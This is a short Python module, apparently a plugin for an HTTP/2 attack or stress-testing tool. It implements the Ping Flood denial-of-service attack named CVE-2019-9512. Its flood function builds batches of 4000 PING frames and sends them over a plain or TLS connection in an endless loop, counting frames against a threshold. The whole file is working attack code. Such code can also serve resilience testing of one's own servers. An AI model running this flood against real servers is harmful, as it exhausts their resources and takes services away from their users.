"""Pings, of which each wants an answer (CVE-2019-9512)."""

import wire

WAYS = ("plain", "tls")
FLOOR = {"frames": 5000}
BATCH = 4000


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    pings = wire.frame(wire.PING, 0, 0, b"planecst") * BATCH
    while True:
        connection.send(pings)
        connection.count("frames", BATCH)
